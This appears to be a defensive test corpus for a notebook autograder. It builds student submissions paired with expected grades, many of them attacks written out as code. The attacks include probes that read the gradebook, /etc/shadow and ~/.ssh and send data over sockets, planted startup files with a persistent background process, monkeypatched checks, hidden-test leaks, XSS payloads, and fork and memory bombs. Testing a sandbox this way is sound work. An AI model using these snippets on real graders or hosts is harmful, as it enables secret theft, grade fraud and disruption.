"""The corpus: every case is a submission folder plus the grade and the reason it must get."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
CORPUS = "ex99_corpus"
EX00 = "ex00_example"

SCALE_OK = "def scale_pixels(x):\n    return x.to(torch.float32) / 255\n"
SCALE_WRONG = "def scale_pixels(x):\n    return (x // 255).float()\n"
FLIP_OK = "def flip_h(x):\n    return x.flip(-1)\n"
FLIP_WRONG = "def flip_h(x):\n    return x\n"


def corpus_source() -> dict:
    """``ex99_corpus``: ex00's question plus a second one, so partial credit is visible."""
    ex00 = json.loads((HERE.parent.parent / "solutions" / EX00 / f"{EX00}.ipynb").read_text(encoding="utf-8"))
    by_id = {c["metadata"].get("nbgrader", {}).get("grade_id"): c for c in ex00["cells"]}

    def meta(grade_id, kind, points=None):
        info = {
            "grade_id": grade_id,
            "schema_version": 3,
            "solution": kind in ("answer", "written"),
            "grade": kind in ("test", "written"),
            "locked": kind == "test",
        }
        if points:
            info["points"] = points
        return {"nbgrader": info}

    cells = [
        nbformat.v4.new_markdown_cell("# Corpus · two questions"),
        nbformat.v4.new_code_cell("import torch\n\nimport course_utils as cu"),
        nbformat.v4.new_code_cell("".join(by_id["scale_pixels"]["source"]), metadata=meta("scale_pixels", "answer")),
        nbformat.v4.new_code_cell("".join(by_id["test_scale_pixels"]["source"]), metadata=meta("test_scale_pixels", "test", 2)),
        nbformat.v4.new_markdown_cell("## 2 · Flip\n\nWrite `flip_h(x)`: mirror the last dimension."),
        nbformat.v4.new_code_cell(
            'def flip_h(x):\n    """Mirror the last dimension."""\n    ### BEGIN SOLUTION\n'
            "    return x.flip(-1)\n    ### END SOLUTION",
            metadata=meta("flip_h", "answer"),
        ),
        nbformat.v4.new_code_cell(
            'cu.checks.check_equal(flip_h(torch.tensor([1, 2, 3])), torch.tensor([3, 2, 1]), "flip_h([1, 2, 3])")\n'
            "### BEGIN HIDDEN TESTS\n"
            "img = torch.arange(12).reshape(3, 4)\n"
            'cu.checks.check_equal(flip_h(img), img[:, [3, 2, 1, 0]], "flip_h on a 3x4 image")\n'
            "### END HIDDEN TESTS\n"
            'cu.checks.passed("flip_h")',
            metadata=meta("test_flip_h", "test", 1),
        ),
        nbformat.v4.new_markdown_cell(
            "Mirroring is an augmentation that keeps the label.", metadata=meta("q_note", "written", 1)
        ),
    ]
    for i, cell in enumerate(cells):
        cell["id"] = cell["metadata"].get("nbgrader", {}).get("grade_id") or f"corpus-{i:03d}"
    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata = {
        "kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"},
        "language_info": {"name": "python"},
    }
    return json.loads(nbformat.writes(nb))


@dataclass
class Context:
    """What a case builder gets: the released notebooks and facts about the host to attack."""

    release: dict[str, dict]  # assignment -> released notebook
    course_root: Path
    listener_port: int
    marker_dir: Path  # a host folder where a leaked write would show up


def _cells(nb: dict) -> list[dict]:
    return nb["cells"]


def gid(cell: dict) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def answered(ctx: Context, assignment: str, answers: dict[str, str] | None = None) -> dict:
    """The released notebook with answers filled in (correct ones unless given)."""
    nb = copy.deepcopy(ctx.release[assignment])
    answers = {
        "scale_pixels": SCALE_OK,
        "flip_h": FLIP_OK,
        "q_note": "Because a mirrored cat is still a cat.",
        "q_why_scale": "Large inputs make gradients large.",
        **(answers or {}),
    }
    for cell in _cells(nb):
        if gid(cell) in answers:
            cell["source"] = answers[gid(cell)]
    return nb


def insert_after(nb: dict, grade_id: str, source: str) -> dict:
    """Add a student code cell right after the cell ``grade_id``."""
    cells = _cells(nb)
    index = next(i for i, c in enumerate(cells) if gid(c) == grade_id)
    new = nbformat.v4.new_code_cell(source)
    new["id"] = f"student-{len(cells):03d}"
    cells.insert(index + 1, json.loads(json.dumps(new)))
    return nb


def dump(nb: dict) -> bytes:
    return json.dumps(nb, indent=1).encode()


def one(nb: dict, assignment: str) -> dict[str, bytes]:
    return {f"{assignment}.ipynb": dump(nb)}


@dataclass
class Case:
    student: str
    assignment: str
    build: Callable[[Context], dict[str, bytes]]
    expect: dict[str, float]  # test cell -> score
    notes: list[str] = field(default_factory=list)  # words that must appear in the notes (lower case; a|b: either)
    attention: bool | None = None
    why: str = ""


def _c(student, assignment, build, expect, notes=(), attention=None, why=""):
    return Case(student, assignment, build, expect, list(notes), attention, why)


FULL = {"test_scale_pixels": 2.0, "test_flip_h": 1.0}
ZERO = {"test_scale_pixels": 0.0, "test_flip_h": 0.0}
FIRST_ONLY = {"test_scale_pixels": 2.0, "test_flip_h": 0.0}

# -- attack snippets ------------------------------------------------------------------------------------------

PROBE = r"""
import json, os, socket
probe = {"uid": os.getuid(), "readable": [], "writable": [], "network": []}
with open("/proc/self/status") as fh:
    probe["capeff"] = [l.split()[1] for l in fh if l.startswith("CapEff")][0]
root = __ROOT__
for path in [root + "/gradebook.db", root + "/solutions/ex99_corpus/ex99_corpus.ipynb", root + "/grading",
             root + "/submitted", "../../gradebook.db", "/etc/shadow", os.path.expanduser("~/.ssh")]:
    try:
        if os.path.isdir(path):
            os.listdir(path)
        else:
            open(path, "rb").read(10)
        probe["readable"].append(path)
    except Exception:
        pass
for path in [root + "/gradebook.db", root + "/HACKED", __MARKER__ + "/HACKED", "/usr/HACKED", "/etc/HACKED"]:
    try:
        with open(path, "a") as fh:
            fh.write("hacked")
        probe["writable"].append(path)
    except Exception:
        pass
for host, port in [("127.0.0.1", __PORT__), ("1.1.1.1", 53), ("huggingface.co", 443)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"leak")
        probe["network"].append(host)
    except Exception:
        pass
try:
    os.setuid(0)
    probe["setuid0"] = True
except Exception:
    probe["setuid0"] = False
print("PROBE " + json.dumps(probe))
if probe["readable"]:
    nb = json.load(open(root + "/solutions/ex99_corpus/ex99_corpus.ipynb"))
    exec("".join(c["source"] for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "scale_pixels"))
"""

PLANT = r"""
import os, subprocess
evil = "def scale_pixels(x):\n    return x * 0\nimport builtins\nbuiltins.PLANTED = True\n"
targets = ["sitecustomize.py", "course_utils.py", "/tmp/sitecustomize.py", "/tmp/torch_evil.py",
           os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py"), "/dev/shm/evil",
           os.path.expanduser("~/.config/matplotlib/matplotlibrc"), __ROOT__ + "/submitted/PLANTED.py",
           __MARKER__ + "/PLANTED.py"]
planted = []
for path in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(evil)
        planted.append(path)
    except Exception:
        pass
# a background process that keeps planting while the next notebook runs
subprocess.Popen(["/bin/sh", "-c", "while true; do echo 'x=1' > /tmp/late_plant.py; sleep 0.2; done"],
                 start_new_session=True)
print("planted", planted)
"""

VICTIM_CHECK = r"""
import builtins, glob, os
seen = [p for p in ["sitecustomize.py", "course_utils.py", "/tmp/sitecustomize.py", "/tmp/late_plant.py",
                    "/dev/shm/evil", os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py")]
        if os.path.exists(p)]
seen += glob.glob("/tmp/*evil*")
if seen or getattr(builtins, "PLANTED", False):
    def scale_pixels(x):  # contaminated by an earlier notebook: lose the points
        return x * 0
print("contamination:", seen)
"""

NEUTER_INPUT = r"""
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\n"] if any("check" in l or "record" in l for l in lines) else lines)
ip.input_transformers_post.append(lambda lines: ["pass\n"] if any("check" in l or "record" in l for l in lines) else lines)
"""

NEUTER_AST = r"""
import ast
class DropChecks(ast.NodeTransformer):
    def visit_Expr(self, node):
        return None
    def visit_Assert(self, node):
        return None
get_ipython().ast_transformers.append(DropChecks())
"""

MONKEYPATCH = r"""
import builtins, numpy as np, torch
import course_utils as cu
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
np.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
for name in ["check_close", "check_equal", "check_dtype", "check_shape", "check_true", "check_raises"]:
    setattr(cu.checks, name, lambda *a, **k: None)
builtins.isinstance = lambda *a: True
__p2l_record__ = lambda *a, **k: None
"""

WARN_AND_TQDM = r"""
import sys, warnings
from tqdm import tqdm
def scale_pixels(x):
    warnings.warn("scale_pixels: this is only a warning", UserWarning)
    for _ in tqdm(range(3), file=sys.stderr):
        pass
    print("progress", file=sys.stderr)
    return x.to(torch.float32) / 255
"""

FIGURES = r"""
import matplotlib.pyplot as plt
for i in range(100):
    fig = plt.figure(figsize=(1, 1), dpi=20)
    plt.plot([0, i])
"""

# Every file in the places a job file could be written, except the Python environment's own (read-only, the
# same for every student; with the course cloned under /tmp, reading its 57,000 files outlasted the cell's limit).
PEEK = r"""
import os, sys
found = []
for top in ["/run/p2l", "/run", "/tmp"]:
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in (sys.prefix, sys.base_prefix)]
        for name in files:
            try:
                with open(os.path.join(folder, name), errors="replace") as f:
                    found.append(name + ": " + f.read(5000))
            except Exception:
                pass
print("PEEK", found)
"""

LINECACHE = r"""
import linecache, sys
lines = [line for name, entry in linecache.cache.items() if name.startswith("<") and len(entry) > 2 for line in entry[2]]
print("LINES", lines, repr(getattr(sys, "last_value", None)))
"""


def _after_test(code: str, grade_id: str):
    def build(ctx):
        return one(insert_after(answered(ctx, CORPUS), grade_id, code), CORPUS)

    return build


FLIP_PRINTS = """def flip_h(x):
    print("ARGUMENT", x.tolist())  # printed while the (hidden) tests run
    return x.flip(-1)
"""

LEAK_IN_ERROR = r"""
def flip_h(x):
    if x.dim() == 2:
        raise ValueError("LEAKED " + str(x.tolist()))
    return x.flip(-1)
"""

FLIP_KEEPS = """def flip_h(x):
    KEPT.append(x.tolist())  # kept while the (hidden) tests run, to be shown later
    return x.flip(-1)

KEPT = []
"""

SHOW_KEPT = r"""
import matplotlib.pyplot as plt
print("KEPT", KEPT)
plt.title(str(KEPT)); plt.show()
raise type("Kept" + "".join(str(v) for v in KEPT[-1][-1]), (Exception,), {})(str(KEPT))
"""

HTML_BANNER = r"""
from IPython.display import HTML, display
display(HTML('<div class="alert alert-success" style="font-size:40px">Score: 10 / 10 (all tests passed)</div>'
             '<script>document.title = "PWNED"; fetch("/api/contents")</script>'))
display({"text/html": "<img src=x onerror=alert(1)>BANNER2", "image/svg+xml": "<svg onload=alert(2)></svg>"},
        raw=True)
"""

KILL_SUPERVISOR = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint('still here')"


# -- case builders ---------------------------------------------------------------------------------------------


def _perfect(ctx, a=CORPUS):
    return one(answered(ctx, a), a)


def _malformed(ctx):
    text = dump(answered(ctx, CORPUS))
    return {f"{CORPUS}.ipynb": text[: len(text) // 2]}


def _nbformat3(ctx):
    nb = nbformat.reads(json.dumps(answered(ctx, CORPUS)), as_version=4)
    return {f"{CORPUS}.ipynb": nbformat.writes(nbformat.convert(nb, 3)).encode()}


def _nbformat5(ctx):
    nb = answered(ctx, CORPUS)
    nb["nbformat"], nb["nbformat_minor"] = 5, 0
    return one(nb, CORPUS)


def _renamed(ctx):
    return {f"{CORPUS} (1).ipynb": dump(answered(ctx, CORPUS))}


#: A submitted file named as HTML: the notes quote it, and formgrader renders the notes in the instructor's browser.
HTML_FILE_NAME = f"<img src=x onerror=alert(3)>{CORPUS}.ipynb"


def _html_file_name(ctx):
    return {HTML_FILE_NAME: dump(answered(ctx, CORPUS))}


def _missing(ctx):
    return {"notes.txt": b"I could not finish, sorry"}


def _extra(ctx):
    return {f"{CORPUS}.ipynb": dump(answered(ctx, CORPUS)), "scratch.ipynb": dump(answered(ctx, CORPUS))}


def _deleted_test(ctx):
    nb = answered(ctx, CORPUS)
    nb["cells"] = [c for c in nb["cells"] if gid(c) != "test_scale_pixels"]
    return one(nb, CORPUS)


def _duplicated_test(ctx):
    nb = answered(ctx, CORPUS)
    cells = nb["cells"]
    i = next(i for i, c in enumerate(cells) if gid(c) == "test_flip_h")
    dup = copy.deepcopy(cells[i])
    dup["id"] = "copied-test"
    cells.insert(i + 1, dup)
    return one(nb, CORPUS)


def _reordered(ctx):
    nb = answered(ctx, CORPUS)
    cells = nb["cells"]
    test = next(c for c in cells if gid(c) == "test_scale_pixels")
    cells.remove(test)
    cells.insert(1, test)  # before the imports and the answer
    return one(nb, CORPUS)


def _retyped(ctx):
    nb = answered(ctx, CORPUS)
    for c in nb["cells"]:
        if gid(c) == "test_flip_h":
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    return one(nb, CORPUS)


def _edited_test(ctx):
    nb = answered(ctx, CORPUS, {"scale_pixels": SCALE_WRONG})
    for c in nb["cells"]:
        if gid(c) == "test_scale_pixels":
            c["source"] = 'cu.checks.passed("scale_pixels")'
    return one(nb, CORPUS)


def _stripped(ctx):
    nb = answered(ctx, CORPUS)
    fresh = nbformat.v4.new_notebook()
    for c in nb["cells"]:
        new = nbformat.v4.new_code_cell(c["source"]) if c["cell_type"] == "code" else nbformat.v4.new_markdown_cell(c["source"])
        fresh.cells.append(new)
    return {f"{CORPUS}.ipynb": nbformat.writes(fresh).encode()}


def _between(code: str, answers=None):
    """Correct first answer, ``code`` right after its test, then the second answer and test."""

    def build(ctx):
        return one(insert_after(answered(ctx, CORPUS, answers), "test_scale_pixels", code), CORPUS)

    return build


def _before_tests(code: str, answers=None):
    def build(ctx):
        return one(insert_after(answered(ctx, CORPUS, answers), "scale_pixels", code), CORPUS)

    return build


def _fill(code: str, ctx: Context) -> str:
    return (
        code.replace("__ROOT__", repr(str(ctx.course_root)))
        .replace("__MARKER__", repr(str(ctx.marker_dir)))
        .replace("__PORT__", str(ctx.listener_port))
    )


def _probe(ctx):
    nb = answered(ctx, CORPUS, {"scale_pixels": SCALE_WRONG})
    code = _fill(PROBE, ctx)
    return one(insert_after(nb, "scale_pixels", code), CORPUS)


def _plant(ctx):
    code = _fill(PLANT, ctx)
    return one(insert_after(answered(ctx, CORPUS), "test_flip_h", code), CORPUS)


def _victim(ctx):
    return one(insert_after(answered(ctx, CORPUS), "scale_pixels", VICTIM_CHECK), CORPUS)


def _marker_cells(ctx):
    nb = insert_after(answered(ctx, CORPUS), "flip_h", "# ### BEGIN HIDDEN TESTS\nprint('my own marker text')")
    cells = nb["cells"]
    md = nbformat.v4.new_markdown_cell("### BEGIN HIDDEN TESTS\n<script>alert('md')</script> my notes")
    md["id"] = "student-md"
    cells.append(json.loads(json.dumps(md)))
    return one(nb, CORPUS)


def _ex00(answers=None, extra=None):
    def build(ctx):
        nb = answered(ctx, EX00, answers)
        if extra:
            nb = insert_after(nb, "scale_pixels", extra)
        return one(nb, EX00)

    return build


CASES: list[Case] = [
    # the two ends
    _c("perfect", CORPUS, _perfect, FULL, why="reference point: all right"),
    _c("stub", CORPUS, lambda ctx: one(ctx.release[CORPUS], CORPUS), ZERO, why="the untouched release"),
    # broken files and notebooks
    _c("malformed_json", CORPUS, _malformed, ZERO, ["not valid notebook json"], True),
    _c("nbformat3", CORPUS, _nbformat3, FULL, ["nbformat 3"]),
    _c("nbformat5", CORPUS, _nbformat5, FULL, ["declared format 5"], True),
    _c("renamed", CORPUS, _renamed, FULL, ["was graded as that notebook"], True),
    _c("html_file_name", CORPUS, _html_file_name, FULL, ["was graded as that notebook"], True, why="a file name that is HTML"),
    _c("missing", CORPUS, _missing, ZERO, ["missing from the submission"], True),
    _c("extra_notebook", CORPUS, _extra, FULL, ["extra notebook"]),
    # test cells tampered with
    _c("deleted_test", CORPUS, _deleted_test, FULL, ["were missing (deleted?)"]),
    _c("duplicated_test", CORPUS, _duplicated_test, FULL, ["more than once"]),
    _c("reordered_test", CORPUS, _reordered, FULL, ["original order"]),
    _c("retyped_test", CORPUS, _retyped, FULL, ["type changed"]),
    _c("edited_test", CORPUS, _edited_test, {"test_scale_pixels": 0.0, "test_flip_h": 1.0}, ["had been edited"]),
    _c("stripped_metadata", CORPUS, _stripped, FULL, ["none of nbgrader's cell metadata"], True),
    # runaway code: answers before the failure keep their points
    _c("infinite_loop", CORPUS, _before_tests("while True:\n    pass"), FULL, ["was interrupted"], True),
    _c(
        "unstoppable_loop",
        CORPUS,
        _between("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass"),
        FIRST_ONLY,
        ["could not be interrupted"],
        True,
    ),
    _c("os_exit", CORPUS, _between("import os\nos._exit(3)"), FIRST_ONLY, ["exited", "os._exit"], True),
    _c("segfault", CORPUS, _between("import ctypes\nctypes.string_at(0)"), FIRST_ONLY, ["sigsegv"], True),
    _c(
        "memory_bomb",
        CORPUS,
        _between("hog = []\nwhile True:\n    hog.append(bytes(256 * 2**20))"),
        FULL,
        ["out of memory"],
        True,
    ),
    _c(
        "fork_bomb",
        CORPUS,
        _between("import os\nwhile True:\n    os.fork()"),
        FULL,
        ["too many processes|was interrupted"],
        True,
        why="on a slow machine the time limit comes first",
    ),
    _c("print_flood", CORPUS, _between("for i in range(200_000):\n    print(i)"), FULL, ["truncated"]),
    _c(
        "figures",
        CORPUS,
        _between(FIGURES),
        FULL,
        ["truncated|was interrupted"],
        why="on a slow machine drawing 100 figures hits the time limit first",
    ),
    _c(
        "kill_sandbox",
        CORPUS,
        lambda ctx: one(
            insert_after(answered(ctx, CORPUS), "test_flip_h", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"), CORPUS
        ),
        FULL,
        ["sandbox stopped"],
        True,
        why="kills the grading worker after its last test: the next student gets a fresh one",
    ),
    # attacks on the grader
    _c(
        "probe_secrets",
        CORPUS,
        _probe,
        {"test_scale_pixels": 0.0, "test_flip_h": 1.0},
        why="reads/writes the gradebook and solutions, the network; would copy the solution if it could",
    ),
    _c("a_planter", CORPUS, _plant, FULL, why="plants files and a background process for later notebooks"),
    _c("z_victim1", CORPUS, _victim, FULL, why="loses points if anything planted is visible"),
    _c("z_victim2", CORPUS, _victim, FULL),
    _c("z_victim3", CORPUS, _victim, FULL),
    _c(
        "neuter_input_transformer", CORPUS, _before_tests(NEUTER_INPUT, {"scale_pixels": SCALE_WRONG, "flip_h": FLIP_WRONG}), ZERO
    ),
    _c("neuter_ast_transformer", CORPUS, _before_tests(NEUTER_AST, {"scale_pixels": SCALE_WRONG, "flip_h": FLIP_WRONG}), ZERO),
    _c("monkeypatch_comparisons", CORPUS, _before_tests(MONKEYPATCH, {"scale_pixels": SCALE_WRONG, "flip_h": FLIP_WRONG}), ZERO),
    _c(
        "warnings_and_tqdm",
        CORPUS,
        lambda ctx: one(answered(ctx, CORPUS, {"scale_pixels": WARN_AND_TQDM}), CORPUS),
        FULL,
        why="stderr output must not cost points",
    ),
    # nothing hidden leaks, no student HTML runs (issue 16, parts 3 and 4)
    _c(
        "peek_linecache",
        CORPUS,
        _after_test(LINECACHE, "test_scale_pixels"),
        FULL,
        why="after a test cell, reads the sources IPython keeps for tracebacks (the hidden tests' among them)",
    ),
    _c(
        "peek_hidden",
        CORPUS,
        _before_tests(PEEK, {"flip_h": FLIP_PRINTS}),
        FULL,
        why="reads every file it can find before the tests and prints the hidden tests' inputs while they run",
    ),
    _c(
        "leak_in_error",
        CORPUS,
        lambda ctx: one(answered(ctx, CORPUS, {"flip_h": LEAK_IN_ERROR}), CORPUS),
        FIRST_ONLY,
        why="puts the hidden input in an exception message",
    ),
    _c(
        "kept_for_later",
        CORPUS,
        lambda ctx: one(insert_after(answered(ctx, CORPUS, {"flip_h": FLIP_KEEPS}), "test_flip_h", SHOW_KEPT), CORPUS),
        FULL,
        why="keeps the hidden tests' inputs and prints, draws and raises them in a cell after the tests",
    ),
    _c("marker_text", CORPUS, _marker_cells, FULL, why="the hidden-test marker in the student's own cells"),
    _c("html_banner", CORPUS, _between(HTML_BANNER), FULL, why="a <script> and a fake score banner"),
    # killing the per-notebook supervisor between two tests: the same grade every time (part 5)
    _c("kill_supervisor", CORPUS, _between(KILL_SUPERVISOR), FIRST_ONLY, ["sandbox stopped"], True),
    # ex00 itself
    _c("ex00_perfect", EX00, _ex00(), {"test_scale_pixels": 2.0}),
    _c(
        "ex00_in_place",
        EX00,
        _ex00({"scale_pixels": "def scale_pixels(x):\n    out = x.to(torch.float32).div_(255)\n    x.zero_()\n    return out\n"}),
        {"test_scale_pixels": 0.0},
    ),
    _c("ex00_monkeypatch", EX00, _ex00({"scale_pixels": SCALE_WRONG}, MONKEYPATCH), {"test_scale_pixels": 0.0}),
]
